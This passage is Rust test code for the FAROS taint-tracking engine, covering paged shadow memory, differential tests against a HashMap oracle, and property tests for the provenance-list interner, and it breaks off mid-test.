                    .filter(|(_, cell)| !cell.is_empty())
                    .map(move |(off, &cell)| (base | off as u32, cell))
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lid(n: u32) -> ListId {
        ListId::from_raw(n)
    }

    #[test]
    fn get_set_round_trip_and_counts() {
        let mut s = PagedShadow::new();
        s.set(0x1234, lid(7));
        assert_eq!(s.get(0x1234), lid(7));
        assert_eq!(s.get(0x1235), ListId::EMPTY);
        assert_eq!(s.tainted_bytes(), 1);
        assert!(!s.is_clean());
        // Overwriting with another list does not double-count.
        s.set(0x1234, lid(9));
        assert_eq!(s.tainted_bytes(), 1);
    }

    #[test]
    fn clearing_last_byte_frees_the_page() {
        let mut s = PagedShadow::new();
        s.set(0x2000, lid(1));
        s.set(0x2fff, lid(2));
        assert_eq!(s.resident_pages(), 1);
        assert!(s.page_resident(0x2abc));
        s.set(0x2000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 1, "one tainted byte keeps the page");
        s.set(0x2fff, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0, "fully-cleared page is freed");
        assert!(s.is_clean());
        assert!(!s.page_resident(0x2abc));
    }

    #[test]
    fn clearing_untainted_bytes_allocates_nothing() {
        let mut s = PagedShadow::new();
        s.set(0xffff_0000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0);
        assert!(s.is_clean());
        // The directory did not grow either: a high clear is free.
        assert_eq!(s.dir.len(), 0);
    }

    #[test]
    fn pages_are_independent_across_frames() {
        let mut s = PagedShadow::new();
        // Two adjacent physical bytes on different frames.
        s.set(0x1fff, lid(3));
        s.set(0x2000, lid(4));
        assert_eq!(s.resident_pages(), 2);
        assert_eq!(s.get(0x1fff), lid(3));
        assert_eq!(s.get(0x2000), lid(4));
    }

    #[test]
    fn iteration_is_in_ascending_address_order() {
        let mut s = PagedShadow::new();
        for &a in &[0x5001u32, 0x1002, 0x1000, 0x5000, 0x3fff] {
            s.set(a, lid(a));
        }
        let got: Vec<u32> = s.iter().map(|(a, _)| a).collect();
        assert_eq!(got, vec![0x1000, 0x1002, 0x3fff, 0x5000, 0x5001]);
    }

    #[test]
    fn fill_range_matches_per_byte_set() {
        // Differential: fill_range over a page-crossing span must leave the
        // shadow in exactly the state a per-byte set loop would.
        let spans: &[(u32, usize)] =
            &[(0x1ff0, 0x30), (0x0, 0x1000), (0x2fff, 1), (0x3000, 0x2001)];
        for &(start, len) in spans {
            let mut bulk = PagedShadow::new();
            let mut byte = PagedShadow::new();
            // Pre-taint a scattered backdrop so fills overwrite a mix of
            // empty and occupied cells.
            for a in (0..0x6000u32).step_by(7) {
                bulk.set(a, lid(a + 1));
                byte.set(a, lid(a + 1));
            }
            bulk.fill_range(start, len, lid(42));
            for i in 0..len {
                byte.set(start + i as u32, lid(42));
            }
            assert_eq!(bulk.tainted_bytes(), byte.tainted_bytes(), "span {start:#x}+{len:#x}");
            assert_eq!(
                bulk.iter().collect::<Vec<_>>(),
                byte.iter().collect::<Vec<_>>(),
                "span {start:#x}+{len:#x}"
            );
            // And clearing the same span must too (including freeing pages).
            bulk.fill_range(start, len, ListId::EMPTY);
            for i in 0..len {
                byte.set(start + i as u32, ListId::EMPTY);
            }
            assert_eq!(bulk.iter().collect::<Vec<_>>(), byte.iter().collect::<Vec<_>>());
            assert_eq!(bulk.resident_pages(), byte.resident_pages());
        }
    }

    #[test]
    fn fill_range_of_empty_allocates_nothing() {
        let mut s = PagedShadow::new();
        s.fill_range(0x10_0000, 0x5000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0);
        assert_eq!(s.dir.len(), 0, "clearing untouched frames must not grow the directory");
    }

    #[test]
    fn fill_range_reaches_top_of_address_space() {
        let mut s = PagedShadow::new();
        s.fill_range(u32::MAX - 15, 16, lid(3));
        assert_eq!(s.tainted_bytes(), 16);
        assert_eq!(s.get(u32::MAX), lid(3));
        s.fill_range(u32::MAX - 15, 16, ListId::EMPTY);
        assert!(s.is_clean());
    }

    #[test]
    fn freed_pages_are_reused_from_the_pool() {
        let mut s = PagedShadow::new();
        s.fill_range(0x3000, 0x1000, lid(5));
        s.fill_range(0x3000, 0x1000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0);
        assert_eq!(s.pool.len(), 1, "freed page lands in the pool");
        // Reuse on a *different* frame: the pooled page must come back
        // fully cleared, so stale cells from its previous life are invisible.
        s.set(0x7abc, lid(9));
        assert_eq!(s.pool.len(), 0, "allocation drains the pool first");
        assert_eq!(s.tainted_bytes(), 1);
        assert_eq!(s.iter().collect::<Vec<_>>(), vec![(0x7abc, lid(9))]);
    }

    #[test]
    fn full_page_fast_paths_keep_counts_exact() {
        // Exercise the occupied == SHADOW_PAGE_SIZE shortcuts in both fill
        // directions.
        let mut s = PagedShadow::new();
        s.fill_range(0x2000, SHADOW_PAGE_SIZE as usize, lid(1));
        assert_eq!(s.tainted_bytes(), SHADOW_PAGE_SIZE as usize);
        s.fill_range(0x2100, 0x100, lid(2));
        assert_eq!(s.tainted_bytes(), SHADOW_PAGE_SIZE as usize, "overwrite adds nothing");
        s.fill_range(0x2100, 0x100, ListId::EMPTY);
        assert_eq!(s.tainted_bytes(), SHADOW_PAGE_SIZE as usize - 0x100);
        s.fill_range(0x2000, SHADOW_PAGE_SIZE as usize, ListId::EMPTY);
        assert!(s.is_clean());
        assert_eq!(s.resident_pages(), 0);
    }

    #[test]
    fn top_of_address_space_is_addressable() {
        let mut s = PagedShadow::new();
        s.set(u32::MAX, lid(1));
        assert_eq!(s.get(u32::MAX), lid(1));
        assert_eq!(s.iter().collect::<Vec<_>>(), vec![(u32::MAX, lid(1))]);
        s.set(u32::MAX, ListId::EMPTY);
        assert!(s.is_clean());
        assert_eq!(s.resident_pages(), 0);
    }
}
