//! Differential property test: the paged shadow memory against the original
//! per-byte `HashMap` shadow kept here as a reference oracle.
//!
//! Random label/copy/union/delete sequences — including page-boundary-
//! crossing loads and stores whose translated bytes land on scrambled,
//! non-adjacent frames — are applied to a real [`TaintEngine`] (paged
//! shadow, zero-taint fast path, batched ops) and to the oracle, which
//! replicates the pre-paging semantics byte by byte over a
//! `HashMap<u32, ListId>`. Afterwards the two must agree on the exact
//! tainted-byte set, the coalesced `tainted_regions()` boundaries, and the
//! provenance tags of every region and register byte.
//!
//! Both sides intern into their own [`ProvInterner`]; since interning is
//! canonical (same tag history ⇒ same id), regions are compared by
//! boundaries plus rendered tag sequences rather than raw ids.

use faros_support::prop::{check, Config, Rng, Shrink};
use faros_support::{prop_assert, prop_assert_eq};
use faros_taint::arb::prov_tag;
use faros_taint::engine::{PropagationMode, TaintEngine};
use faros_taint::provlist::{ListId, ProvInterner};
use faros_taint::shadow::ShadowAddr;
use faros_taint::tag::ProvTag;
use std::collections::HashMap;

const PAGE: u32 = 4096;
const REGS: u8 = 8;

/// One shadow operation, expressed so it can drive both implementations.
#[derive(Debug, Clone)]
enum Op {
    /// `label_range_fresh` — a taint source over a physical range.
    LabelRange { phys: u32, len: usize, tag: ProvTag },
    /// `append_tag_range` — process/file tag appended over a range.
    AppendRange { phys: u32, len: usize, tag: ProvTag },
    /// Plain contiguous mem→mem copy (kernel-mediated `guest_copy` shape).
    CopyMem { dst: u32, src: u32, len: u8 },
    /// A load: per-byte translated run into a register, with
    /// zero-extension for sub-word widths. The run may cross a page
    /// boundary onto a non-adjacent frame.
    Load { reg: u8, phys: Vec<u32> },
    /// A store: register bytes out to a per-byte translated run.
    Store { phys: Vec<u32>, reg: u8 },
    /// Union of memory source ranges into a destination (ALU shape).
    Union { dst: u32, dst_len: u8, srcs: Vec<(u32, u8)>, keep: bool },
    /// Contiguous delete (immediate writes).
    Delete { dst: u32, len: u8 },
    /// Batched delete over a translated run (`push imm` across pages).
    DeleteMem { phys: Vec<u32> },
}

impl Shrink for Op {
    fn shrink(&self) -> Vec<Op> {
        Vec::new() // Vec<Op> already shrinks by dropping whole ops.
    }
}

/// The reference oracle: the original per-byte `HashMap` shadow with its
/// own interner, applying every rule exactly as the pre-paging engine did.
#[derive(Default)]
struct Oracle {
    interner: ProvInterner,
    mem: HashMap<u32, ListId>,
    regs: [[ListId; 4]; REGS as usize],
}

impl Oracle {
    fn get_mem(&self, a: u32) -> ListId {
        self.mem.get(&a).copied().unwrap_or(ListId::EMPTY)
    }

    fn set_mem(&mut self, a: u32, id: ListId) {
        if id.is_empty() {
            self.mem.remove(&a);
        } else {
            self.mem.insert(a, id);
        }
    }

    fn clamp(phys: u32, len: usize) -> usize {
        len.min((u32::MAX - phys) as usize + 1)
    }

    fn apply(&mut self, op: &Op) {
        match op {
            Op::LabelRange { phys, len, tag } => {
                let id = self.interner.append(ListId::EMPTY, *tag);
                for i in 0..Self::clamp(*phys, *len) {
                    self.set_mem(phys + i as u32, id);
                }
            }
            Op::AppendRange { phys, len, tag } => {
                for i in 0..Self::clamp(*phys, *len) {
                    let a = phys + i as u32;
                    let id = self.interner.append(self.get_mem(a), *tag);
                    self.set_mem(a, id);
                }
            }
            Op::CopyMem { dst, src, len } => {
                for i in 0..u32::from(*len) {
                    let id = self.get_mem(src.wrapping_add(i));
                    self.set_mem(dst.wrapping_add(i), id);
                }
            }
            Op::Load { reg, phys } => {
                for (i, &p) in phys.iter().enumerate() {
                    self.regs[*reg as usize][i] = self.get_mem(p);
                }
                for i in phys.len()..4 {
                    self.regs[*reg as usize][i] = ListId::EMPTY;
                }
            }
            Op::Store { phys, reg } => {
                for (i, &p) in phys.iter().enumerate() {
                    self.set_mem(p, self.regs[*reg as usize][i]);
                }
            }
            Op::Union { dst, dst_len, srcs, keep } => {
                let mut acc = ListId::EMPTY;
                for &(src, len) in srcs {
                    for i in 0..u32::from(len) {
                        let id = self.get_mem(src.wrapping_add(i));
                        acc = self.interner.union(acc, id);
                    }
                }
                for i in 0..u32::from(*dst_len) {
                    let a = dst.wrapping_add(i);
                    let merged = if *keep {
                        let cur = self.get_mem(a);
                        self.interner.union(cur, acc)
                    } else {
                        acc
                    };
                    self.set_mem(a, merged);
                }
            }
            Op::Delete { dst, len } => {
                for i in 0..u32::from(*len) {
                    self.set_mem(dst.wrapping_add(i), ListId::EMPTY);
                }
            }
            Op::DeleteMem { phys } => {
                for &p in phys {
                    self.set_mem(p, ListId::EMPTY);
                }
            }
        }
    }

    /// Tainted regions as `(phys, len, tags)`, coalesced like the engine's
    /// `tainted_regions` (adjacent bytes with the identical list).
    fn regions(&self) -> Vec<(u32, u32, Vec<ProvTag>)> {
        let mut bytes: Vec<(u32, ListId)> = self.mem.iter().map(|(&a, &id)| (a, id)).collect();
        bytes.sort_unstable_by_key(|&(a, _)| a);
        let mut out: Vec<(u32, u32, ListId)> = Vec::new();
        for (addr, list) in bytes {
            match out.last_mut() {
                Some((phys, len, l))
                    if u64::from(*phys) + u64::from(*len) == u64::from(addr) && *l == list =>
                {
                    *len += 1;
                }
                _ => out.push((addr, 1, list)),
            }
        }
        out.into_iter()
            .map(|(phys, len, l)| (phys, len, self.interner.tags(l).to_vec()))
            .collect()
    }
}

fn engine_regions(engine: &TaintEngine) -> Vec<(u32, u32, Vec<ProvTag>)> {
    engine
        .tainted_regions()
        .into_iter()
        .map(|r| (r.phys, r.len, engine.interner().tags(r.list).to_vec()))
        .collect()
}

fn apply_to_engine(engine: &mut TaintEngine, op: &Op) {
    match op {
        Op::LabelRange { phys, len, tag } => engine.label_range_fresh(*phys, *len, *tag),
        Op::AppendRange { phys, len, tag } => engine.append_tag_range(*phys, *len, *tag),
        Op::CopyMem { dst, src, len } => {
            engine.copy(ShadowAddr::Mem(*dst), ShadowAddr::Mem(*src), *len);
        }
        Op::Load { reg, phys } => {
            engine.copy_mem_to_reg(*reg, phys);
            let w = phys.len();
            if w < 4 {
                engine.delete(ShadowAddr::Reg { index: *reg, off: w as u8 }, (4 - w) as u8);
            }
        }
        Op::Store { phys, reg } => engine.copy_reg_to_mem(phys, *reg),
        Op::Union { dst, dst_len, srcs, keep } => {
            let srcs: Vec<(ShadowAddr, u8)> =
                srcs.iter().map(|&(a, l)| (ShadowAddr::Mem(a), l)).collect();
            engine.union_into(ShadowAddr::Mem(*dst), *dst_len, &srcs, *keep);
        }
        Op::Delete { dst, len } => engine.delete(ShadowAddr::Mem(*dst), *len),
        Op::DeleteMem { phys } => engine.delete_mem(phys),
    }
}

/// A physical byte address, biased toward page boundaries and the very top
/// of the address space (where the old wrapping bugs lived).
fn addr(rng: &mut Rng) -> u32 {
    match rng.range_u32(0, 10) {
        0 => u32::MAX - rng.range_u32(0, 64),
        1..=4 => {
            let page = rng.range_u32(1, 8);
            page * PAGE - rng.range_u32(0, 8)
        }
        _ => rng.range_u32(0, 8 * PAGE),
    }
}

/// A translated per-byte physical run of width 1/2/4: starts near the end
/// of one frame and, when it crosses, continues on an unrelated frame —
/// exactly what an MMU hands back for a page-crossing virtual access.
fn translated_run(rng: &mut Rng) -> Vec<u32> {
    let w = *rng.pick(&[1usize, 2, 4]);
    let start = rng.range_u32(PAGE - 4, PAGE); // offset within the first frame
    let f1 = rng.range_u32(0, 8) * PAGE;
    let f2 = rng.range_u32(0, 8) * PAGE; // independent: frames need not be adjacent
    (0..w as u32)
        .map(|i| {
            let off = start + i;
            if off < PAGE {
                f1 + off
            } else {
                f2 + (off - PAGE)
            }
        })
        .collect()
}

fn op(rng: &mut Rng) -> Op {
    match rng.range_u32(0, 8) {
        0 => Op::LabelRange {
            phys: addr(rng),
            len: rng.range_usize(1, 64),
            tag: prov_tag(rng),
        },
        1 => Op::AppendRange {
            phys: addr(rng),
            len: rng.range_usize(1, 32),
            tag: prov_tag(rng),
        },
        2 => Op::CopyMem {
            dst: addr(rng),
            src: addr(rng),
            len: rng.range_u32(1, 9) as u8,
        },
        3 => Op::Load { reg: rng.range_u32(0, u32::from(REGS)) as u8, phys: translated_run(rng) },
        4 => Op::Store { phys: translated_run(rng), reg: rng.range_u32(0, u32::from(REGS)) as u8 },
        5 => Op::Union {
            dst: addr(rng),
            dst_len: rng.range_u32(1, 5) as u8,
            srcs: rng.vec_of(1, 3, |r| (addr(r), r.range_u32(1, 5) as u8)),
            keep: rng.next_bool(),
        },
        6 => Op::Delete { dst: addr(rng), len: rng.range_u32(1, 9) as u8 },
        _ => Op::DeleteMem { phys: translated_run(rng) },
    }
}

#[test]
fn paged_shadow_matches_hashmap_oracle() {
    check(
        "paged_shadow_matches_hashmap_oracle",
        Config::default(),
        |rng| rng.vec_of(0, 48, op),
        |ops| {
            let mut engine = TaintEngine::new(PropagationMode::direct_only());
            let mut oracle = Oracle::default();
            for op in ops {
                apply_to_engine(&mut engine, op);
                oracle.apply(op);
            }
            prop_assert_eq!(
                engine.shadow().tainted_mem_bytes(),
                oracle.mem.len(),
                "global tainted-byte count"
            );
            prop_assert_eq!(engine_regions(&engine), oracle.regions(), "tainted_regions");
            for r in 0..REGS {
                for off in 0..4u8 {
                    let got = engine.prov_tags(ShadowAddr::Reg { index: r, off });
                    let want =
                        oracle.interner.tags(oracle.regs[r as usize][off as usize]);
                    prop_assert_eq!(got, want, "register {r} byte {off}");
                }
            }
            // The fast path must be an optimization, not a behaviour: a
            // clean engine and a clean oracle agree too.
            prop_assert!(
                engine.shadow().tainted_mem_bytes() > 0 || engine_regions(&engine).is_empty()
            );
            Ok(())
        },
    );
}

/// One register-addressed shadow operation whose offset arithmetic can
/// escape the 4-byte register — the shapes behind the clamp-aliasing bug.
#[derive(Debug, Clone)]
enum RegOp {
    /// Seed taint into memory so register traffic has something to move.
    Label { phys: u32, len: usize, tag: ProvTag },
    /// `copy(Reg{off}, Mem(src), len)` — dst bytes past the register end
    /// must be *dropped*, not folded onto byte 3.
    MemToReg { reg: u8, off: u8, src: u32, len: u8 },
    /// `copy(Mem(dst), Reg{off}, len)` — src bytes past the register end
    /// read as untainted.
    RegToMem { dst: u32, reg: u8, off: u8, len: u8 },
    /// `delete(Reg{off}, len)` with a possibly-escaping range.
    DeleteReg { reg: u8, off: u8, len: u8 },
    /// `union_into(Reg{off}, ..)` from a memory source.
    UnionIntoReg { reg: u8, off: u8, dst_len: u8, src: u32, src_len: u8, keep: bool },
    /// `union_into(Mem(dst), ..)` from a register source whose range may
    /// escape — escaped source bytes contribute nothing.
    UnionFromReg { dst: u32, dst_len: u8, reg: u8, off: u8, src_len: u8, keep: bool },
}

impl Shrink for RegOp {
    fn shrink(&self) -> Vec<RegOp> {
        Vec::new()
    }
}

impl Oracle {
    /// Applies a [`RegOp`] with the *documented* overflow policy: a
    /// register shadow byte past offset 3 does not exist — writes to it are
    /// dropped and reads of it yield the empty list. This is exactly what
    /// the pre-fix clamp violated (it aliased every escaped byte onto
    /// byte 3).
    fn apply_reg(&mut self, op: &RegOp) {
        match op {
            RegOp::Label { phys, len, tag } => {
                self.apply(&Op::LabelRange { phys: *phys, len: *len, tag: *tag });
            }
            RegOp::MemToReg { reg, off, src, len } => {
                for i in 0..*len {
                    let Some(o) = checked_reg_off(*off, i) else { break };
                    self.regs[*reg as usize][o] = self.get_mem(src.wrapping_add(i.into()));
                }
            }
            RegOp::RegToMem { dst, reg, off, len } => {
                for i in 0..*len {
                    let id = match checked_reg_off(*off, i) {
                        Some(o) => self.regs[*reg as usize][o],
                        None => ListId::EMPTY,
                    };
                    self.set_mem(dst.wrapping_add(i.into()), id);
                }
            }
            RegOp::DeleteReg { reg, off, len } => {
                for i in 0..*len {
                    let Some(o) = checked_reg_off(*off, i) else { break };
                    self.regs[*reg as usize][o] = ListId::EMPTY;
                }
            }
            RegOp::UnionIntoReg { reg, off, dst_len, src, src_len, keep } => {
                let mut acc = ListId::EMPTY;
                for i in 0..u32::from(*src_len) {
                    acc = self.interner.union(acc, self.get_mem(src.wrapping_add(i)));
                }
                for i in 0..*dst_len {
                    let Some(o) = checked_reg_off(*off, i) else { break };
                    let cur = self.regs[*reg as usize][o];
                    self.regs[*reg as usize][o] =
                        if *keep { self.interner.union(cur, acc) } else { acc };
                }
            }
            RegOp::UnionFromReg { dst, dst_len, reg, off, src_len, keep } => {
                let mut acc = ListId::EMPTY;
                for i in 0..*src_len {
                    let Some(o) = checked_reg_off(*off, i) else { break };
                    acc = self.interner.union(acc, self.regs[*reg as usize][o]);
                }
                for i in 0..u32::from(*dst_len) {
                    let a = dst.wrapping_add(i);
                    let merged = if *keep {
                        self.interner.union(self.get_mem(a), acc)
                    } else {
                        acc
                    };
                    self.set_mem(a, merged);
                }
            }
        }
    }
}

fn checked_reg_off(off: u8, i: u8) -> Option<usize> {
    let o = u32::from(off) + u32::from(i);
    (o < 4).then_some(o as usize)
}

fn apply_reg_to_engine(engine: &mut TaintEngine, op: &RegOp) {
    match op {
        RegOp::Label { phys, len, tag } => engine.label_range_fresh(*phys, *len, *tag),
        RegOp::MemToReg { reg, off, src, len } => {
            engine.copy(ShadowAddr::Reg { index: *reg, off: *off }, ShadowAddr::Mem(*src), *len);
        }
        RegOp::RegToMem { dst, reg, off, len } => {
            engine.copy(ShadowAddr::Mem(*dst), ShadowAddr::Reg { index: *reg, off: *off }, *len);
        }
        RegOp::DeleteReg { reg, off, len } => {
            engine.delete(ShadowAddr::Reg { index: *reg, off: *off }, *len);
        }
        RegOp::UnionIntoReg { reg, off, dst_len, src, src_len, keep } => {
            engine.union_into(
                ShadowAddr::Reg { index: *reg, off: *off },
                *dst_len,
                &[(ShadowAddr::Mem(*src), *src_len)],
                *keep,
            );
        }
        RegOp::UnionFromReg { dst, dst_len, reg, off, src_len, keep } => {
            engine.union_into(
                ShadowAddr::Mem(*dst),
                *dst_len,
                &[(ShadowAddr::Reg { index: *reg, off: *off }, *src_len)],
                *keep,
            );
        }
    }
}

fn reg_op(rng: &mut Rng) -> RegOp {
    let reg = |r: &mut Rng| r.range_u32(0, u32::from(REGS)) as u8;
    // Offsets 0..4 and lengths 1..=4: roughly half the draws escape the
    // register, which is the interesting half.
    let off = |r: &mut Rng| r.range_u32(0, 4) as u8;
    let len = |r: &mut Rng| r.range_u32(1, 5) as u8;
    match rng.range_u32(0, 6) {
        0 => RegOp::Label { phys: addr(rng), len: rng.range_usize(1, 32), tag: prov_tag(rng) },
        1 => RegOp::MemToReg { reg: reg(rng), off: off(rng), src: addr(rng), len: len(rng) },
        2 => RegOp::RegToMem { dst: addr(rng), reg: reg(rng), off: off(rng), len: len(rng) },
        3 => RegOp::DeleteReg { reg: reg(rng), off: off(rng), len: len(rng) },
        4 => RegOp::UnionIntoReg {
            reg: reg(rng),
            off: off(rng),
            dst_len: len(rng),
            src: addr(rng),
            src_len: len(rng),
            keep: rng.next_bool(),
        },
        _ => RegOp::UnionFromReg {
            dst: addr(rng),
            dst_len: len(rng),
            reg: reg(rng),
            off: off(rng),
            src_len: len(rng),
            keep: rng.next_bool(),
        },
    }
}

/// Differential pin for the sub-register clamp-aliasing fix: random
/// register-addressed flows whose offset arithmetic escapes the register
/// must agree with an oracle that *drops* escaped bytes. Under the old
/// `saturating_add(..).min(3)` behaviour, escaped destination bytes all
/// collapsed onto byte 3 (last writer wins) and escaped source reads
/// returned byte 3's list — both diverge from this oracle.
#[test]
fn register_offset_overflow_drops_bytes_instead_of_aliasing() {
    check(
        "register_offset_overflow_drops_bytes_instead_of_aliasing",
        Config::default(),
        |rng| rng.vec_of(1, 48, reg_op),
        |ops| {
            let mut engine = TaintEngine::new(PropagationMode::direct_only());
            let mut oracle = Oracle::default();
            for op in ops {
                apply_reg_to_engine(&mut engine, op);
                oracle.apply_reg(op);
            }
            prop_assert_eq!(engine_regions(&engine), oracle.regions(), "memory shadow");
            for r in 0..REGS {
                for off in 0..4u8 {
                    let got = engine.prov_tags(ShadowAddr::Reg { index: r, off });
                    let want = oracle.interner.tags(oracle.regs[r as usize][off as usize]);
                    prop_assert_eq!(got, want, "register {r} byte {off}");
                }
            }
            Ok(())
        },
    );
}

/// The exact shape that used to alias: a 4-byte copy into `Reg {{ off: 2 }}`
/// must write register bytes 2 and 3 from source bytes 0 and 1 and stop —
/// not fold source bytes 1..4 onto register byte 3.
#[test]
fn escaped_copy_keeps_the_in_range_prefix() {
    use faros_taint::tag::TagKind;
    let mut engine = TaintEngine::new(PropagationMode::direct_only());
    for i in 0..4u16 {
        engine.label_range_fresh(0x100 + u32::from(i), 1, ProvTag::new(TagKind::Process, 10 + i));
    }
    engine.copy(ShadowAddr::Reg { index: 0, off: 2 }, ShadowAddr::Mem(0x100), 4);
    let tags = |engine: &TaintEngine, off: u8| {
        engine.prov_tags(ShadowAddr::Reg { index: 0, off }).to_vec()
    };
    assert_eq!(tags(&engine, 2), vec![ProvTag::new(TagKind::Process, 10)]);
    assert_eq!(
        tags(&engine, 3),
        vec![ProvTag::new(TagKind::Process, 11)],
        "byte 3 must hold source byte 1, not the clamp-aliased last writer"
    );
    assert_eq!(tags(&engine, 0), Vec::new());
    assert_eq!(tags(&engine, 1), Vec::new());
}

/// Focused page-boundary differential: long label runs spanning frames,
/// then page-crossing loads/stores shuffling them, then deletes freeing
/// pages — the allocation/free lifecycle of the paged shadow.
#[test]
fn page_lifecycle_matches_oracle() {
    check(
        "page_lifecycle_matches_oracle",
        Config::default(),
        |rng| {
            let seed_tag = prov_tag(rng);
            let start = rng.range_u32(1, 4) * PAGE - rng.range_u32(1, 16);
            let len = rng.range_usize(8, 2 * PAGE as usize);
            let moves = rng.vec_of(1, 12, |r| {
                (translated_run(r), r.range_u32(0, u32::from(REGS)) as u8, translated_run(r))
            });
            (seed_tag, start, len, moves)
        },
        |(seed_tag, start, len, moves)| {
            let mut engine = TaintEngine::new(PropagationMode::direct_only());
            let mut oracle = Oracle::default();
            let label = Op::LabelRange { phys: *start, len: *len, tag: *seed_tag };
            apply_to_engine(&mut engine, &label);
            oracle.apply(&label);
            for (src_run, reg, dst_run) in moves {
                for o in [
                    Op::Load { reg: *reg, phys: src_run.clone() },
                    Op::Store { phys: dst_run.clone(), reg: *reg },
                    Op::DeleteMem { phys: src_run.clone() },
                ] {
                    apply_to_engine(&mut engine, &o);
                    oracle.apply(&o);
                }
            }
            prop_assert_eq!(engine_regions(&engine), oracle.regions());
            prop_assert_eq!(engine.shadow().tainted_mem_bytes(), oracle.mem.len());
            Ok(())
        },
    );
}
