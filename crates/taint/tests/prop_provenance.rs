//! Property tests for the provenance-list interner and the Table-I
//! propagation semantics — the invariants whole-system DIFT correctness
//! rests on.
//!
//! Runs on the in-tree deterministic harness (`faros_support::prop`) with
//! the pinned default seed; set `FAROS_PROP_SEED` to explore other streams.

use faros_taint::arb::prov_tag as tag;
use faros_support::prop::{check, Config, Rng};
use faros_support::{prop_assert, prop_assert_eq};
use faros_taint::engine::{PropagationMode, TaintEngine};
use faros_taint::provlist::{ListId, ProvInterner};
use faros_taint::shadow::ShadowAddr;
use faros_taint::tag::{ProvTag, TagKind};

fn tag_vec(rng: &mut Rng, max: usize) -> Vec<ProvTag> {
    rng.vec_of(0, max, tag)
}

fn build_list(interner: &mut ProvInterner, tags: &[ProvTag]) -> ListId {
    tags.iter().fold(ListId::EMPTY, |acc, &t| interner.append(acc, t))
}

#[test]
fn append_preserves_order_and_collapses_consecutive_dups() {
    check(
        "append_preserves_order_and_collapses_consecutive_dups",
        Config::default(),
        |rng| tag_vec(rng, 24),
        |tags| {
            let mut interner = ProvInterner::new();
            let id = build_list(&mut interner, tags);
            // Expected: the input with consecutive duplicates collapsed.
            let mut expected: Vec<ProvTag> = Vec::new();
            for &t in tags {
                if expected.last() != Some(&t) {
                    expected.push(t);
                }
            }
            prop_assert_eq!(interner.tags(id), expected.as_slice());
            Ok(())
        },
    );
}

#[test]
fn interning_is_canonical() {
    check(
        "interning_is_canonical",
        Config::default(),
        |rng| tag_vec(rng, 16),
        |tags| {
            // Building the same history twice yields the same id (structural
            // sharing), even through an unrelated interleaved build.
            let mut interner = ProvInterner::new();
            let a = build_list(&mut interner, tags);
            let _noise = build_list(&mut interner, &[ProvTag::EXPORT_TABLE]);
            let b = build_list(&mut interner, tags);
            prop_assert_eq!(a, b);
            Ok(())
        },
    );
}

#[test]
fn union_is_idempotent_and_empty_is_identity() {
    check(
        "union_is_idempotent_and_empty_is_identity",
        Config::default(),
        |rng| (tag_vec(rng, 12), tag_vec(rng, 12)),
        |(tags_a, tags_b)| {
            let mut interner = ProvInterner::new();
            let a = build_list(&mut interner, tags_a);
            let b = build_list(&mut interner, tags_b);
            prop_assert_eq!(interner.union(a, a), a);
            prop_assert_eq!(interner.union(a, ListId::EMPTY), a);
            prop_assert_eq!(interner.union(ListId::EMPTY, b), b);
            // Union is associative-in-content for the tag *set*.
            let ab = interner.union(a, b);
            let ab_again = interner.union(ab, b);
            prop_assert_eq!(ab, ab_again, "absorbing: (a ∪ b) ∪ b == a ∪ b");
            Ok(())
        },
    );
}

#[test]
fn union_contains_all_source_tags() {
    check(
        "union_contains_all_source_tags",
        Config::default(),
        |rng| (tag_vec(rng, 12), tag_vec(rng, 12)),
        |(tags_a, tags_b)| {
            let mut interner = ProvInterner::new();
            let a = build_list(&mut interner, tags_a);
            let b = build_list(&mut interner, tags_b);
            let u = interner.union(a, b);
            for &t in tags_a.iter().chain(tags_b.iter()) {
                prop_assert!(interner.contains(u, t));
            }
            // And nothing else.
            for &t in interner.tags(u) {
                prop_assert!(tags_a.contains(&t) || tags_b.contains(&t));
            }
            Ok(())
        },
    );
}

#[test]
fn copy_moves_shadow_exactly() {
    check(
        "copy_moves_shadow_exactly",
        Config::default(),
        |rng| {
            (
                rng.vec_of(1, 8, tag),
                rng.range_u32(0, 1000),
                rng.range_u32(1000, 2000),
            )
        },
        |(tags, src, dst)| {
            let mut engine = TaintEngine::new(PropagationMode::direct_only());
            for (i, &t) in tags.iter().enumerate() {
                engine.append_tag(ShadowAddr::Mem(src + i as u32), t);
            }
            let n = tags.len() as u8;
            engine.copy(ShadowAddr::Mem(*dst), ShadowAddr::Mem(*src), n);
            for i in 0..n {
                prop_assert_eq!(
                    engine.prov_id(ShadowAddr::Mem(dst + u32::from(i))),
                    engine.prov_id(ShadowAddr::Mem(src + u32::from(i))),
                );
            }
            Ok(())
        },
    );
}

#[test]
fn delete_always_clears() {
    check(
        "delete_always_clears",
        Config::default(),
        |rng| (tag_vec(rng, 8), rng.range_u32(0, 10_000)),
        |(tags, addr)| {
            let mut engine = TaintEngine::new(PropagationMode::direct_only());
            for &t in tags {
                engine.append_tag(ShadowAddr::Mem(*addr), t);
            }
            engine.delete(ShadowAddr::Mem(*addr), 1);
            prop_assert!(engine.prov_id(ShadowAddr::Mem(*addr)).is_empty());
            prop_assert_eq!(engine.shadow().tainted_mem_bytes(), 0);
            Ok(())
        },
    );
}

#[test]
fn count_distinct_matches_set_semantics() {
    check(
        "count_distinct_matches_set_semantics",
        Config::default(),
        |rng| tag_vec(rng, 24),
        |tags| {
            let mut interner = ProvInterner::new();
            let id = build_list(&mut interner, tags);
            for kind in TagKind::ALL {
                let expected: std::collections::HashSet<ProvTag> = interner
                    .tags(id)
                    .iter()
                    .copied()
                    .filter(|t| t.kind() == kind)
                    .collect();
                prop_assert_eq!(interner.count_distinct_of_kind(id, kind), expected.len());
            }
            Ok(())
        },
    );
}

#[test]
fn tag_wire_format_round_trips() {
    check("tag_wire_format_round_trips", Config::default(), tag, |tag| {
        prop_assert_eq!(ProvTag::from_bytes(tag.to_bytes()), Some(*tag));
        Ok(())
    });
}

/// §VI-D discusses exhausting FAROS' memory with "a great amount of tagged
/// data". Interning bounds the damage: a workload that moves the same few
/// tags around millions of times creates only a handful of distinct lists.
#[test]
fn interning_bounds_memory_under_repetitive_propagation() {
    use faros_taint::tag::NetflowTag;
    let mut engine = TaintEngine::new(PropagationMode::direct_only());
    let nf = engine
        .tables_mut()
        .intern_netflow(NetflowTag {
            src_ip: [1, 1, 1, 1],
            src_port: 1,
